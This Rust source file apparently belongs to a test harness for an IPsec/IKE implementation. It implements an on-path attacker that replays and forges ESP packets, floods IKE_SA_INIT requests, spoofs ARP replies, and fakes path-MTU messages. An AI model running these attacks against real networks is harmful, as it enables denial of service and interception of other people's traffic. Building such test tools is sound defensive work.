//! An attacker on the path, as a process of its own: it hears what arrives at one interface of the
//! untrusted network, from one of two hosts, and sends by both.

use crate::forgeries::{ahead, arp_reply, ike_sa_init, is_esp, too_big};
use crate::frames::{ETHERNET, Random, Road};
use crate::inject::{Injector, Listener};
use crate::{Error, Result};
use std::collections::VecDeque;
use std::convert::Infallible;
use std::io::Write;
use std::thread::sleep;
use std::time::{Duration, Instant};

/// Between two parts of an attack. Each part has more frames than any threshold allows in a second.
const TICK: Duration = Duration::from_millis(50);
/// Packets that are sent again in each part.
const REPLAYED: usize = 24;
const FORGED: u32 = 16;
/// How far the forged numbers lie ahead.
const AHEAD: u32 = 1000;
const REQUESTS: usize = 32;
/// Frames that are heard in each part at most.
const MAX_HEARD: usize = 512;
/// Where the attacker wants the packets for others to go. Nobody has it.
const FALSE_MAC: [u8; 6] = [2, 0, 0, 0, 0, 0x66];
/// What it says that the path takes: less than any path of IPv6, and enough to go on with.
const FALSE_MTU: u16 = 1200;

/// What an attacker does until it is ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// Sends packets of the SA again.
    Replay,
    /// Sends packets of the SA with numbers that are still to come, and a wrong ICV.
    Forge,
    /// Begins IKE SAs, and never goes on.
    Flood,
    /// Says to the host that is heard that the other one has another MAC address, and passes on
    /// what that host sends there.
    Arp,
    /// Says to the host that is heard that the path to the other one takes less than it sends.
    Pmtu,
}

/// On the path between two hosts.
#[derive(Debug)]
struct Attacker {
    ears: Listener,
    /// Towards the host that is heard.
    back: Injector,
    /// Towards the other one.
    on: Injector,
}

/// Attacks from the namespace of this thread: hears the host behind one interface, and knows the
/// other host behind the other interface. Says on standard output when it has begun.
pub fn run(attack: Attack, heard: &str, other: &str) -> Result<Infallible> {
    let attacker = Attacker {
        ears: Listener::open_here(heard)?,
        back: Injector::open_here(heard)?,
        on: Injector::open_here(other)?,
    };
    let first = attacker.first_esp()?;
    let begun = writeln!(std::io::stdout(), "attacking").and_then(|()| std::io::stdout().flush());
    begun.map_err(Error::io("say that the attack begins"))?;
    match attack {
        Attack::Replay => attacker.replay(first),
        Attack::Forge => attacker.forge(first),
        Attack::Flood => attacker.flood(&first),
        Attack::Arp => attacker.arp(&first),
        Attack::Pmtu => attacker.pmtu(),
    }
}

impl Attacker {
    fn first_esp(&self) -> Result<Vec<u8>> {
        loop {
            if let Some(frame) = self.ears.next(TICK)?.filter(|frame| is_esp(frame)) {
                return Ok(frame);
            }
        }
    }

    /// The latest of the packets of ESP with this many octets or more, up to this number.
    fn latest(&self, kept: &mut VecDeque<Vec<u8>>, most: usize, least: usize) -> Result<()> {
        for _ in 0..MAX_HEARD {
            let Some(frame) = self.ears.next(Duration::ZERO)? else { break };
            if is_esp(&frame) && frame.len() >= least {
                kept.push_back(frame);
                kept.drain(..kept.len().saturating_sub(most));
            }
        }
        Ok(())
    }

    fn replay(&self, first: Vec<u8>) -> Result<Infallible> {
        let mut kept = VecDeque::from([first]);
        loop {
            self.latest(&mut kept, REPLAYED, 0)?;
            kept.iter().try_for_each(|frame| self.on.send(frame))?;
            sleep(TICK);
        }
    }

    fn forge(&self, first: Vec<u8>) -> Result<Infallible> {
        let mut kept = VecDeque::from([first]);
        loop {
            self.latest(&mut kept, 1, 0)?;
            let forged = kept.iter().flat_map(|frame| (0..FORGED).filter_map(|n| ahead(frame, AHEAD + n)));
            forged.into_iter().try_for_each(|frame| self.on.send(&frame))?;
            sleep(TICK);
        }
    }

    fn flood(&self, first: &[u8]) -> Result<Infallible> {
        let road = Road::of(first).ok_or_else(not_ipv4)?;
        let mut random = Random::new(1);
        loop {
            for _ in 0..REQUESTS {
                self.on.send(&road.datagram(500, &ike_sa_init(&mut random)))?;
            }
            sleep(TICK);
        }
    }

    fn arp(&self, first: &[u8]) -> Result<Infallible> {
        let road = Road::of(first).ok_or_else(not_ipv4)?;
        let lie = arp_reply(first, FALSE_MAC).ok_or_else(not_ipv4)?;
        let mut next = Instant::now();
        loop {
            if next <= Instant::now() {
                self.back.send(&lie)?;
                next = Instant::now() + 2 * TICK;
            }
            let Some(mut frame) = self.ears.next(TICK)? else { continue };
            if let Some(to) = frame.first_chunk_mut().filter(|to| **to == FALSE_MAC) {
                *to = road.to_mac;
                self.on.send(&frame)?;
            }
        }
    }

    /// Only a packet that is too large for the false MTU makes it credible.
    fn pmtu(&self) -> Result<Infallible> {
        let mut kept = VecDeque::new();
        loop {
            self.latest(&mut kept, 1, ETHERNET + usize::from(FALSE_MTU) + 1)?;
            let lies = kept.iter().filter_map(|frame| too_big(frame, FALSE_MTU));
            lies.into_iter().try_for_each(|frame| self.back.send(&frame))?;
            sleep(2 * TICK);
        }
    }
}

fn not_ipv4() -> Error {
    Error::unexpected("the packets on the path", "IPv4", "something else")
}
